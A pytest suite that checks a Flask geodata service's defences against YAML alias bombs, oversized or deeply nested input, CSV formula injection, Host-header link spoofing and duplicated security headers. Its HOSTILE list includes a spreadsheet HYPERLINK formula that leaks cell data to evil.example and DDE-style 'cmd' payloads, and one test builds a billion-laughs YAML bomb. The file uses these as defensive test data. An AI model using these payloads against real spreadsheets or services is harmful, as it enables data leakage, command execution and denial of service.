"""Hardening of the service against hostile or broken input (issue 11), through Flask's test client.

Unbounded work (YAML alias bombs, huge counts), client errors that used to be answered 500, CSV formula
injection, links built from the client's Host header and doubled security headers.
"""

from __future__ import annotations

import pytest

from tests.service.conftest import TOKEN
from tests.service.test_api import _draft_yaml, problem

AUTH = {"Authorization": f"Bearer {TOKEN}"}


def _post_yaml(client, text: str):  # type: ignore[no-untyped-def]
    return client.post("/api/v1/scenarios", data=text, content_type="application/yaml", headers=AUTH)


# ------------------------------------------------------------------------------------ 1. unbounded work


def _alias_bomb(field: str) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    return "\n".join(lines).replace("a0:", f"{field}:", 1) + f"\n{field}_bomb: *a8\n"


@pytest.mark.parametrize("field", ["version", "title"])
def test_yaml_alias_bomb_is_refused_before_expansion(client, field: str) -> None:  # type: ignore[no-untyped-def]
    draft = _draft_yaml()
    # the bomb in the field itself: version: &v [...]; title: *v (expanded 10^9 times it would be gigabytes)
    bomb = "\n".join(f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * 10) + "]" for i in range(1, 9))
    text = f"{field}: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n{bomb}\n" + "\n".join(
        line for line in draft.splitlines() if not line.startswith(f"{field}:"))
    text = text.replace("x8: &x8", f"{field}_copy: &x8", 1)
    assert len(text) < 20_000
    body = problem(_post_yaml(client, text), 400)
    assert "aliases are not accepted" in body["detail"]
    assert body["problems"][0]["check"] == "yaml_alias"
    assert len(body["detail"]) < 1000


def test_yaml_anchor_alone_and_merge_key_are_refused(client) -> None:  # type: ignore[no-untyped-def]
    body = problem(_post_yaml(client, "id: &name draft\nversion: '1'\n"), 400)
    assert "anchor" in body["detail"]
    body = problem(_post_yaml(client, "base: {a: 1}\nother:\n  <<: *base\n"), 400)
    assert body["problems"][0]["check"] == "yaml_alias"


def test_cli_reader_refuses_aliases(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from geo.classify import load_definition
    from geo.errors import DefinitionError

    path = tmp_path / "bomb.yml"
    path.write_text(_alias_bomb("title"), encoding="utf-8")
    with pytest.raises(DefinitionError) as info:
        load_definition(path)
    assert info.value.problems[0].check == "yaml_alias"


def _with(draft: str, old: str, new: str) -> str:
    assert old in draft
    return draft.replace(old, new, 1)


def _fields(body: dict) -> dict[str, str]:
    return {p["detail"]["field"]: p["message"] for p in body["problems"]}


def test_counts_and_lengths_have_upper_bounds(client) -> None:  # type: ignore[no-untyped-def]
    draft = _draft_yaml()
    body = problem(_post_yaml(client, _with(draft, "draws: 50", "draws: 10000000")), 422)
    assert "must be <= 10,000" in _fields(body)["robustness.draws"]
    body = problem(_post_yaml(client, _with(draft, "seed: 20200901", "seed: 1" + "0" * 30)), 422)
    assert "robustness.seed" in _fields(body)
    long_title = "T" * 100_000
    body = problem(_post_yaml(client, "\n".join(
        f'title: "{long_title}"' if line.startswith("title:") else line for line in draft.splitlines())), 422)
    msg = _fields(body)["title"]
    assert "at most 2,000" in msg and len(msg) < 300
    long_version = "version: [" + ", ".join(["1"] * 5000) + "]"
    body = problem(_post_yaml(client, "\n".join(
        long_version if line.startswith("version:") else line for line in draft.splitlines())), 422)
    assert "a list of 5000 items" in _fields(body)["version"]
    body = problem(client.post("/api/v1/scenarios", headers=AUTH, json={
        "id": "x", "indicators": [{"id": f"i{k}", "direction": "higher_is_worse"} for k in range(500)]}), 422)
    assert "at most 200" in _fields(body)["indicators"]


def test_wrong_values_are_echoed_short(client) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post("/api/v1/scenarios", headers=AUTH, json={
        "id": "x" * 50_000, "title": ["a" * 10_000], "indicators": 5, **{("k" * 5000): 1}}), 422)
    assert len(body["detail"]) < 1000
    assert all(len(p["message"]) < 400 for p in body["problems"])


# ------------------------------------------------------------------------- 2. client errors are not 500

DEEP_JSON = "[" * 10_000 + "]" * 10_000
DEEP_OBJECT = '{"a":' * 10_000 + "1" + "}" * 10_000
BIG = "1" * 5_000


@pytest.mark.parametrize(("path", "ctype", "data"), [
    ("/api/v1/eligibility", "application/json", DEEP_JSON),
    ("/api/v1/eligibility", "application/geo+json", DEEP_OBJECT),
    ("/api/v1/eligibility", "application/json", '{"type": "Polygon", "coordinates": ' + "[" * 200 + "]" * 200 + "}"),
    ("/api/v1/eligibility/batch", "application/geo+json", DEEP_JSON),
    ("/api/v1/eligibility/batch", "application/json", DEEP_OBJECT),
    ("/api/v1/scenarios", "application/json", DEEP_JSON),
    ("/api/v1/scenarios", "application/json", DEEP_OBJECT),
    ("/api/v1/scenarios", "application/yaml", DEEP_JSON),
    ("/api/v1/scenarios", "application/yaml", "a:\n" + "".join("  " * i + "- \n" for i in range(1, 3000))),
])
def test_deep_nesting_is_a_client_error(client, path: str, ctype: str, data: str) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post(path, data=data, content_type=ctype, headers=AUTH), 400)
    assert "nested" in body["detail"]


@pytest.mark.parametrize(("path", "ctype", "data"), [
    ("/api/v1/eligibility", "application/json", BIG),
    ("/api/v1/eligibility", "application/json", '{"type": "Point", "coordinates": [' + BIG + ", 53]}"),
    ("/api/v1/eligibility/batch", "application/geo+json",
     '{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "Point", '
     '"coordinates": [' + BIG + ", 53]}}]}"),
    ("/api/v1/scenarios", "application/json", '{"id": "x", "robustness": {"draws": ' + BIG + "}}"),
    ("/api/v1/scenarios", "application/yaml", "id: x\nrobustness:\n  draws: " + BIG + "\n"),
])
def test_integers_beyond_the_int_string_limit(client, path: str, ctype: str, data: str) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post(path, data=data, content_type=ctype, headers=AUTH), 400)
    assert "4300 digits" in body["detail"]


def test_integers_beyond_the_float_range_in_a_definition(client) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post("/api/v1/scenarios", headers=AUTH, content_type="application/json",
                               data='{"id": "x", "min_population": 1' + "0" * 400 + "}"), 422)
    assert "finite number" in _fields(body)["min_population"]


def test_batch_csv_not_utf8(client) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post("/api/v1/eligibility/batch", data=b"id,lon,lat\n\xff\xfe,8.9,53.0\n",
                               content_type="text/csv"), 400)
    assert "not UTF-8" in body["detail"] and "0xff" in body["detail"]
    body = problem(client.post("/api/v1/eligibility/batch", data=b'{"type": "\xff"}',
                               content_type="application/json"), 400)
    assert "UTF-8" in body["detail"]


@pytest.mark.parametrize(("obj", "words"), [
    ({"type": "Feature", "geometry": 5}, "geometry of the Feature"),
    ({"type": "Feature", "geometry": [1, 2]}, "geometry of the Feature"),
    ({"type": "FeatureCollection", "features": [1]}, "features[0]"),
    ({"type": "FeatureCollection", "features": ["x", {}]}, "features[0]"),
    ({"type": "FeatureCollection", "features": {"a": 1}}, "must be a list"),
    ({"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": "POLYGON"}]}, "features[0]"),
])
def test_malformed_geojson_members(client, obj: object, words: str) -> None:  # type: ignore[no-untyped-def]
    body = problem(client.post("/api/v1/eligibility", json=obj), 400)
    assert words in body["detail"]


class _FullDisk:
    """A sqlite3 connection whose statements starting with ``verb`` fail as on a full disk."""

    def __init__(self, con, verb: str) -> None:  # type: ignore[no-untyped-def]
        self.con, self.verb = con, verb

    def execute(self, sql: str, *args):  # type: ignore[no-untyped-def]
        import sqlite3

        if sql.lstrip().upper().startswith(self.verb):
            raise sqlite3.OperationalError("database or disk is full")
        return self.con.execute(sql, *args)

    def close(self) -> None:
        self.con.close()


@pytest.fixture()
def full_disk(app, monkeypatch):  # type: ignore[no-untyped-def]
    """Make the scenario store's INSERT (``full_disk("INSERT")``) or SELECT fail with SQLITE_FULL."""
    import sqlite3

    store_path = str(app.extensions["quartiere"].store.path)
    real = sqlite3.connect

    def arm(verb: str) -> None:
        def connect(path, *args, **kwargs):  # type: ignore[no-untyped-def]
            con = real(path, *args, **kwargs)
            return _FullDisk(con, verb) if str(path) == store_path else con

        monkeypatch.setattr(sqlite3, "connect", connect)

    return arm


def test_full_disk_on_scenario_post_and_get(client, full_disk) -> None:  # type: ignore[no-untyped-def]
    full_disk("INSERT")
    draft = _draft_yaml().replace("id: draft-lower-threshold", "id: draft-full-disk", 1)
    body = problem(_post_yaml(client, draft), 507)
    assert "full" in body["detail"] and body["problems"][0]["check"] == "storage_full"
    full_disk("SELECT")
    body = problem(client.get("/api/v1/scenarios/0123456789abcdef"), 507)
    assert "full" in body["detail"]
    body = problem(client.get("/api/v1/downloads/classification.csv?scenario=0123456789abcdef"), 507)


def test_recursion_error_is_never_a_500(app) -> None:  # type: ignore[no-untyped-def]
    from flask import Flask

    from service.web import problems as pr

    probe = Flask("probe")
    pr.register(probe)

    @probe.get("/deep")
    def deep() -> str:
        raise RecursionError("maximum recursion depth exceeded")

    body = problem(probe.test_client().get("/deep"), 400)
    assert "nested too deeply" in body["detail"]


# ------------------------------------------------------------------------------ 3. CSV formula injection

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
           "-2+3+cmd|x", "\t=1+1", "\r=1+1", "a\rb", "two\nlines", "-5", "plain"]


def _expected(value: str) -> str:
    return value if value in ("a\rb", "two\nlines", "-5", "plain") else "'" + value


def _rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_batch_csv_neutralises_formulas_and_keeps_rows(client) -> None:  # type: ignore[no-untyped-def]
    from tests.service.conftest import TENEVER

    feats = [{"type": "Feature", "properties": {"id": v},
              "geometry": {"type": "Point", "coordinates": list(TENEVER)}} for v in HOSTILE]
    feats.append({"type": "Feature", "id": -7, "geometry": {"type": "Point", "coordinates": list(TENEVER)}})
    r = client.post("/api/v1/eligibility/batch?f=csv", json={"type": "FeatureCollection", "features": feats})
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = _rows(r.data)
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE) + 1 and all(len(row) == len(header) for row in body)
    assert [row[0] for row in body] == [*map(_expected, HOSTILE), "-7"]
    assert {row[1] for row in body} == {"ok"}


@pytest.mark.parametrize("dialect", ["", "?dialect=excel-de"])
def test_designations_csv_neutralises_formulas(client, state, monkeypatch, dialect: str) -> None:  # type: ignore[no-untyped-def]
    des = state.snapshot.designations.copy()
    n = len(HOSTILE)
    assert len(des) >= n
    des = des.astype({"area": object, "status": object})
    des.loc[des.index[:n], "area"] = HOSTILE
    des.loc[des.index[:n], "status"] = list(reversed(HOSTILE))
    monkeypatch.setattr(state.snapshot, "designations", des)
    for key in [k for k in state.cache if k.startswith("designations.")]:
        monkeypatch.delitem(state.cache, key)
    r = client.get(f"/api/v1/downloads/designations.csv{dialect}")
    assert r.status_code == 200
    rows = _rows(r.data, ";" if dialect else ",")
    header, body = rows[0], rows[1:]
    assert len(body) == len(des) and all(len(row) == len(header) for row in body)
    area, status = header.index("area"), header.index("status")
    assert [row[area] for row in body[:n]] == [_expected(v) for v in HOSTILE]
    assert [row[status] for row in body[:n]] == [_expected(v) for v in reversed(HOSTILE)]
    assert body[n][area] == str(des["area"].iloc[n])  # ordinary names unchanged


def test_csv_helper_leaves_numbers_alone() -> None:
    import pandas as pd

    from service.api.exports import to_csv

    frame = pd.DataFrame({"name": ["-x", "ok"], "delta": [-1.5, 2.0], "count": [-3, 4], "mixed": [-2.5, "=1"]})
    assert _rows(to_csv(frame)) == [["name", "delta", "count", "mixed"], ["'-x", "-1.5", "-3", "-2.5"],
                                    ["ok", "2.0", "4", "'=1"]]
    assert _rows(to_csv(frame, "excel-de"), ";")[1][:3] == ["'-x", "-1,5", "-3"]


# ------------------------------------------------------------------------------------- 4. OGC API links

OGC_PAGES = ["/ogcapi", "/ogcapi/collections", "/ogcapi/collections/ortsteile",
             "/ogcapi/collections/ortsteile/items?limit=2&offset=2", "/ogcapi/collections/ortsteile/items/04011373"]


def _hrefs(obj: object) -> list[str]:
    if isinstance(obj, dict):
        return [v for k, v in obj.items() if k == "href" and isinstance(v, str)] + [
            h for v in obj.values() for h in _hrefs(v)]
    if isinstance(obj, list):
        return [h for v in obj for h in _hrefs(v)]
    return []


@pytest.fixture(scope="module")
def public_app(app):  # type: ignore[no-untyped-def]
    from service.app import create_app

    return create_app({"SNAPSHOTS": app.config["SNAPSHOTS"], "INSTANCE": app.config["INSTANCE"], "PAGES": False,
                       "PUBLIC_URL": "https://quartiere.example.org/geo/", "TESTING": True})


def test_ogc_links_use_public_url_not_host_header(public_app) -> None:  # type: ignore[no-untyped-def]
    client = public_app.test_client()
    for path in OGC_PAGES:
        r = client.get(path, headers={"Host": "evil.example", "X-Forwarded-Host": "evil2.example"})
        assert r.status_code == 200, path
        hrefs = _hrefs(r.get_json(force=True))
        assert hrefs, path
        assert all(h.startswith("https://quartiere.example.org/geo/ogcapi") for h in hrefs), (path, hrefs)
        assert b"evil" not in r.data


def test_ogc_links_without_public_url_ignore_forwarded_host(client) -> None:  # type: ignore[no-untyped-def]
    for path in OGC_PAGES:
        r = client.get(path, headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"})
        hrefs = _hrefs(r.get_json(force=True))
        assert hrefs and all(h.startswith("http://localhost/ogcapi") for h in hrefs), (path, hrefs)


def test_public_url_setting_is_checked(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from service.settings import load_settings

    monkeypatch.setenv("QUARTIERE_PUBLIC_URL", "https://maps.example.org/")
    assert load_settings({}).public_url == "https://maps.example.org"
    for bad in ("maps.example.org", "ftp://x.example", "https://x.example/?a=1"):
        with pytest.raises(ValueError, match="PUBLIC_URL"):
            load_settings({"PUBLIC_URL": bad})


# ------------------------------------------------------------------------------------------ 5. headers

POLICY = {"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer"}


@pytest.mark.parametrize("path", ["/", "/check", "/api/v1/status", "/api/v1/downloads/ortsteile.csv",
                                  "/api/v1/downloads/snapshot.gpkg", "/api/v1/scenarios/doesnotexist"])
def test_each_policy_header_once(client, path: str) -> None:  # type: ignore[no-untyped-def]
    r = client.get(path, headers={"Origin": "https://maps.example.org"})
    assert r.status_code in (200, 404), path
    for name, value in POLICY.items():
        assert r.headers.getlist(name) == [value], (path, name, r.headers.getlist(name))
    for name in ("X-Snapshot-Version", "Content-Security-Policy", "Access-Control-Allow-Origin", "Vary"):
        assert len(r.headers.getlist(name)) == 1, (path, name, r.headers.getlist(name))
    assert "Origin" in r.headers["Vary"]
    if path in ("/", "/check"):
        assert "nonce-" in r.headers["Content-Security-Policy"]  # the page's own CSP is kept


def test_header_policy_replaces_and_merges() -> None:
    from service.app import HeaderMiddleware

    class Holder:
        class state:  # noqa: N801
            version = "v1"

    def page(environ, start_response):  # type: ignore[no-untyped-def]
        start_response("200 OK", [("Content-Type", "text/html"), ("Referrer-Policy", "same-origin"),
                                  ("x-content-type-options", "nosniff"), ("Vary", "Accept-Encoding"),
                                  ("Content-Security-Policy", "default-src 'none'")])
        return [b""]

    seen: list[list[tuple[str, str]]] = []
    mw = HeaderMiddleware(page, Holder(), csp="default-src 'self'", origins=["https://a.example"])
    mw({"HTTP_ORIGIN": "https://a.example"}, lambda status, headers, exc_info=None: seen.append(headers))
    names = [k.lower() for k, _ in seen[0]]
    assert len(names) == len(set(names))
    got = dict(seen[0])
    assert got["Referrer-Policy"] == "no-referrer" and got["Vary"] == "Accept-Encoding, Origin"
    assert got["Content-Security-Policy"] == "default-src 'none'" and got["X-Snapshot-Version"] == "v1"
